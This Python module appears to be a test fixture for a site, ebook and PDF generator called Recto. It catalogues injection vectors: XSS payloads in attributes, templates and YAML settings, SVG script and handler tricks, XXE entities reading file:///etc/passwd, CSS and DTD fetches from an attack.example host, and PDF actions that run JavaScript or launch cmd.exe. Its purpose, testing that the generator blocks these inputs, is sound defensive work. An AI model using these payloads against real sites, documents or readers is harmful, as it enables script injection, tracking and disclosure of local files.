"""What is put where a document takes words or files, in the hope that something acts or fetches.

In each, `@act@` is a script that tells the vector's number, `@host@` a host of its own, and `@xNN@` the
character of that number. The bodies of pages are in pages.txt.
"""

import re
from pathlib import Path

# Words that try to break out of where they are put: attributes, elements, comments, sections, scripts,
# style sheets, YAML, TeX, templates, and the strings, names and dictionaries of a PDF. Three at a time share
# a pack; what has to stand at the start of a field is the first of three.
WORDS = {
    "an address": "javascript:@act@",
    "an attribute": '"><img src=x onerror=@act@>',
    "an attribute in single quotes": "'><svg onload=@act@>",
    "an address in capitals": " jaVa@x09@sCript&colon;@act@",
    "an attribute without quotes": " onmouseover=@act@ style=background:url(https://@host@/b.png) ",
    "an attribute, and stays": '" onfocus="@act@" autofocus tabindex="1" x="',
    "an address of data": "data:text/html,<script>@act@</script>",
    "a title": "</title><script>@act@</script>",
    "a style": "</style><style>@import 'https://@host@/a.css';</style>",
    "a script": '</script><script>@act@</script>";@act@;//',
    "a comment": "--><script>@act@</script><!-- --!><img src=x onerror=@act@> -->",
    "a section": "]]><script>@act@</script><![CDATA[",
    "an instruction": "?><?xml-stylesheet href='https://@host@/a.xsl' type='text/xsl'?>",
    "entities": "&lt;script&gt;@act@&lt;/script&gt;&#60;img src=x onerror=@act@&#62;",
    "entities twice": "&amp;lt;img src=x onerror=@act@&amp;gt;",
    "Markdown": '[w](javascript:@act@) ![w](https://@host@/a.png) <https://@host@/"onclick=@act@>',
    "back quotes": "``onerror=@act@ `x` </code></pre><script>@act@</script>",
    "a template": "${@act@} #{@act@} <%= @act@ %> {%raw%}",
    "TeX": "$\\href{javascript:@act@}{x}$ \\url{javascript:@act@}",
    "a string of PDF": ") >> /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> % (\\",
    "a name of PDF": "/AA#20<</O<</S/JavaScript/JS(@act@)>>>> endobj endstream trailer",
    "UTF-16": "\u3e00\u3c00script\u3e00 +ADw-script+AD4-@act@ \ufeff\u202e\u2028\u2029",
    "a base": '<base href="https://@host@/"><meta http-equiv=refresh content="0;url=https://@host@/">',
    "a form": '<form action="https://@host@/"><button formaction="javascript:@act@">w</button>',
    "a namespace": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">@act@</x:script>',
}

# What stands in a drawing. Each is a file that a page shows, and what a program draws.
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20"%s>%s<rect width="9" height="9"/></svg>'
DRAWINGS = {
    "a script": SVG % ("", "<script>@act@</script>"),
    "a script of data": SVG % ("", '<script type="text/javascript"><![CDATA[@act@]]></script>'),
    "a script from outside": SVG
    % ("", '<script xlink:href="https://@host@/a.js"/><script href="//@host@/b.js"/>'),
    "a script in a prefix": SVG.replace(
        "<rect", '<s:script xmlns:s="http://www.w3.org/2000/svg">@act@</s:script><rect'
    )
    % ("", ""),
    "a script of HTML": SVG % ("", '<h:script xmlns:h="http://www.w3.org/1999/xhtml">@act@</h:script>'),
    "a handler at the root": SVG % (' onload="@act@"', ""),
    "handlers": SVG
    % ("", '<g onclick="@act@" onmouseover="@act@"><text y="9" onfocusin="@act@" tabindex="0">w</text></g>'),
    "a link": SVG % ("", '<a xlink:href="javascript:@act@"><text y="9">w</text></a>'),
    "a link with a tab": SVG % ("", '<a href="java&#9;script:@act@"><text y="9">w</text></a>'),
    "a link of data": SVG
    % ("", '<a href="data:text/html,&lt;script>@act@&lt;/script>"><text y="9">w</text></a>'),
    "an address that is set": SVG
    % ("", '<a><set attributeName="href" to="javascript:@act@"/><text y="9">w</text></a>'),
    "an address that is animated": SVG
    % (
        "",
        '<a id="a"><text y="9">w</text></a><animate xlink:href="#a" attributeName="href" values="javascript:@act@" onbegin="@act@"/>',
    ),
    "words of HTML": SVG
    % (
        "",
        '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="@act@"><iframe src="https://@host@/" srcdoc="&lt;script>@act@&lt;/script>"/><form action="https://@host@/"/></body></foreignObject>',
    ),
    "pictures from outside": SVG
    % (
        "",
        '<image xlink:href="https://@host@/a.png" width="9" height="9"/><image href="//@host@/b.png"/><image href="file:///etc/passwd"/>',
    ),
    "a picture of a drawing": SVG
    % (
        "",
        '<image width="9" height="9" href="data:image/svg+xml,%3Csvg xmlns=\'http://www.w3.org/2000/svg\' onload=\'@act@\'%3E%3Cscript%3E@act@%3C/script%3E%3C/svg%3E"/>',
    ),
    "uses": SVG
    % (
        "",
        '<use href="https://@host@/a.svg#x"/><use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiBvbmxvYWQ9ImFsZXJ0KDEpIi8+#x"/>',
    ),
    "a style": SVG
    % (
        "",
        "<style>@import url(https://@host@/a.css); rect { fill: url(https://@host@/b.svg#c); background: url(javascript:@act@) }</style>",
    ),
    "a style attribute": SVG
    % (
        "",
        '<rect style="fill:url(https://@host@/a.svg#x);-moz-binding:url(https://@host@/x.xml)" filter="url(//@host@/f.svg#f)" mask="url(https://@host@/m.svg#m)" cursor="url(https://@host@/c.cur)"/>',
    ),
    "a font": SVG
    % (
        "",
        '<style>@font-face{font-family:x;src:url(https://@host@/f.woff)}</style><text font-family="x" y="9">w</text><font-face-uri xlink:href="https://@host@/f.svg"/>',
    ),
    "a filter": SVG
    % (
        "",
        '<filter id="f"><feImage href="https://@host@/a.png"/></filter><rect filter="url(#f)" width="9" height="9"/>',
    ),
    "a style sheet of its own": '<?xml-stylesheet href="https://@host@/a.css" type="text/css"?><?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>'
    + SVG % ("", ""),
    "an entity": '<!DOCTYPE svg [<!ENTITY e "&#60;script>@act@&#60;/script>"><!ENTITY x SYSTEM "file:///etc/passwd">]>'
    + SVG % ("", "<text>&e;&x;</text>"),
    "an entity from outside": '<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://@host@/a.dtd"> %p;]>'
    + SVG.replace("%s>%s", ">"),
    "a declared attribute": '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "@act@"><!ATTLIST rect onclick CDATA "@act@">]>'
    + SVG % ("", ""),
    "a handler element": SVG
    % (
        "",
        '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" type="text/ecmascript">@act@</handler><listener event="click" handler="javascript:@act@"/>',
    ),
    "words that break out": SVG
    % (
        "",
        '<title>"&gt;&lt;script&gt;@act@&lt;/script&gt;</title><desc>&lt;img src=x onerror=@act@&gt;</desc><text y="9">&lt;/svg&gt;&lt;script&gt;@act@&lt;/script&gt;</text>',
    ),
    "ids that break out": SVG
    % (
        "",
        '<g id="x&quot; onload=&quot;@act@" class="&quot;>&lt;script>@act@&lt;/script>"><path d="M0 0L9 9" id="&lt;/style>&lt;script>@act@&lt;/script>"/></g>',
    ),
    "metadata": SVG
    % (
        "",
        '<metadata><script xmlns="http://www.w3.org/1999/xhtml">@act@</script></metadata><switch><foreignObject><embed xmlns="http://www.w3.org/1999/xhtml" src="https://@host@/"/></foreignObject></switch>',
    ),
    "films": SVG
    % (
        "",
        '<video xmlns="http://www.w3.org/2000/svg" href="https://@host@/a.mp4"/><audio xlink:href="https://@host@/a.mp3"/><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:@act@"/>',
    ),
    "no drawing": "<html xmlns='http://www.w3.org/1999/xhtml'><script>@act@</script></html>",
}

# Lines of pack.yaml whose value stands in an address, a name or a tag.
SETTINGS = {
    "an address of a report": 'epub: { accessibility: { certifier: x, report: "javascript:@act@" } }',
    "an address of a report that fetches": "epub: { accessibility: { certifier: x, report: 'data:text/html,<script>@act@</script>' } }",
    "an address below which pages lie": 'links: { base: "javascript:@act@//" }',
    "an address that breaks out": "links: { base: 'https://@host@/\"><script>@act@</script>' }",
    "a slug": "slug: '\"><script>@act@</script>'",
    "a language": "lang: 'en\" onclick=\"@act@'",
    "a date": "date: '2027-03-01\"><script>@act@</script>'",
    "a name of a field": "metadata: { 'x\" onclick=\"@act@': y }",
    "a field that acts": "metadata: { refresh: '0;url=https://@host@/', Content-Security-Policy: 'default-src *' }",
    "a logo": "logo: 'https://@host@/a.png'",
    "a cover": "cover: 'javascript:@act@'",
    "a command of formulas": "maths: { macros: { x: '\\href{javascript:@act@}{<script>@act@</script>}' } }",
}

# What is said of the kinds of files that go along.
TYPES = [
    "text/html",
    "TEXT/HTML",
    "text/html; charset=utf-8",
    "image/svg+xml",
    "application/x-javascript",
]

# The same, of kinds that there are none of.
NO_TYPES = ["text/html,<script>alert(0)</script>", 'text/csv" onclick="alert(0)']

# Files of a theme that lies in the pack. A text that starts with a pair of marks is put before what stands
# between them in Recto's own file; any other is the whole file.
THEMES = {
    "a script": ("html/document.hbs", "[</body>]<script>@act@</script>"),
    "a script from outside": ("html/document.hbs", "[</head>]<script src='https://@host@/a.js'></script>"),
    "a script before the policies": ("html/document.hbs", '[<meta charset="utf-8">]<script>@act@</script>'),
    "a policy of its own": (
        "html/document.hbs",
        "[{{#each policies}}]<meta http-equiv='Content-Security-Policy' content='default-src *'>",
    ),
    "policies in a comment": ("html/document.hbs", "[{{#each policies}}]<!--"),
    "a handler": (
        "html/page.hbs",
        "<article onclick='@act@' onpointerover=@act@><h1>{{{title}}}</h1>{{{body_html}}}</article>",
    ),
    "words as markup": (
        "html/page.hbs",
        "<article><h1>{{{title}}}</h1>{{{meta.title}}}{{{meta.other.custom}}}{{{body_html}}}</article>",
    ),
    "words in a script": ("html/facts.hbs", "<script>{{title}}</script><p title={{pack.title}}>x</p>"),
    "a script address": (
        "html/closing.hbs",
        "<a href='java&#9;script:@act@'>x</a><a href='{{pack.title}}'>y</a>",
    ),
    "a form": (
        "html/closing.hbs",
        "<form action='https://@host@/'><input name=a><button formaction='javascript:@act@'>x</button></form>",
    ),
    "a frame": (
        "html/opening.hbs",
        "<iframe srcdoc='<script>@act@</script>'></iframe><object data='https://@host@/'></object>",
    ),
    "a base": (
        "html/contents.hbs",
        "<base href='https://@host@/'><meta http-equiv=refresh content='0;url=https://@host@/'>",
    ),
    "a drawing": (
        "html/appearance.hbs",
        "<svg><script>@act@</script><use href='https://@host@/a.svg#x'/><a><set attributeName=href to='javascript:@act@'/></a></svg>",
    ),
    "a mutation": ("html/closing.hbs", "<svg></p><style><a id='</style><img src=x onerror=@act@>'>"),
    "a style that imports": (
        "html/style.css",
        "@import 'https://@host@/a.css'; @\\69mport url(//@host@/b.css); p { background: u\\72l(https://@host@/b.png) }",
    ),
    "a style that ends": (
        "html/extra.css",
        "p::before { content: '</style><script>@act@</script>' } </style><img src=x onerror=@act@>",
    ),
    "a style of parts": (
        "shared/code.css",
        "@font-face { font-family: x; src: url(//@host@/f.woff2) } p { background: image-set('https://@host@/a.png' 1x)",
    ),
    "comforts": ("html/comforts.js", "@act@"),
    "a search": ("html/search.js", "@act@"),
    "pictures": ("html/pictures.js", "</script><script>@act@"),
    "a script in a book": ("epub/page.hbs", "[</body>]<script>@act@</script>"),
    "an instruction in a book": (
        "epub/page.hbs",
        "[<html]<?xml-stylesheet type='text/xsl' href='https://@host@/a.xsl'?>",
    ),
    "an entity in a book": (
        "epub/page.hbs",
        "[<html]<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    ),
    "a handler in a book": (
        "epub/title.hbs",
        "<img src='https://@host@/x.png' onerror='@act@' alt=''/><a href='javascript:@act@'>x</a>",
    ),
    "a style in a book": (
        "epub/style.css",
        "@import url(https://@host@/a.css); p { background: url('https://@host@/b.png') }",
    ),
    "a shortcode": ("shortcodes/note.hbs", "<script>@act@</script><img src=x onerror=@act@>{{{inner}}}"),
    "a picture on its cover": ("pictures/a.svg", SVG % (' onload="@act@"', "<script>@act@</script>")),
}

# Objects of a PDF that a page shows and carries along.
PDFS = {
    "a script at its opening": ("/OpenAction << /S /JavaScript /JS (@act@) >>", ""),
    "named scripts": ("/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (@act@) >>] >> >>", ""),
    "a program": (
        "/OpenAction << /S /Launch /F (cmd.exe) >> /AA << /WC << /S /JavaScript /JS (@act@) >> >>",
        "",
    ),
    "links": (
        "",
        "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (javascript:@act@) >> >> << /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /JavaScript /JS (@act@) >> >>]",
    ),
    "a form": (
        "/AcroForm << /Fields [] /XFA (<script>@act@</script>) >>",
        "/Annots [<< /Type /Annot /Subtype /Widget /FT /Tx /T (x) /Rect [0 0 99 99] /AA << /E << /S /SubmitForm /F (https://@host@/) >> >> >>]",
    ),
    "an action of a page": ("", "/AA << /O << /S /JavaScript /JS (@act@) >> >>"),
}


def filled(text: str, number: int) -> str:
    """A vector with its own script and host."""
    text = text.replace("@act@", f"alert({number})").replace("@host@", f"v{number}.attack.example")
    return re.sub(r"@x([0-9A-F]{2})@", lambda code: chr(int(code[1], 16)), text)


def pages() -> dict[str, str]:
    """The bodies of pages, by name."""
    text = (Path(__file__).parent / "pages.txt").read_text(encoding="utf-8")
    parts = (part.split("\n", 1) for part in text.split("\n%% ")[1:])
    return {name: body.strip("\n") + "\n" for name, body in parts}


def pdf(in_catalog: str, in_page: str) -> bytes:
    """A PDF of a page that says a word."""
    words = b"BT /F1 24 Tf 20 50 Td (Words) Tj ET"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {in_catalog} >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R "
        b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> "
        + in_page.encode()
        + b" >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(words), words),
    ]
    file, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(file))
        file += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(file))
    return file + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + table + end
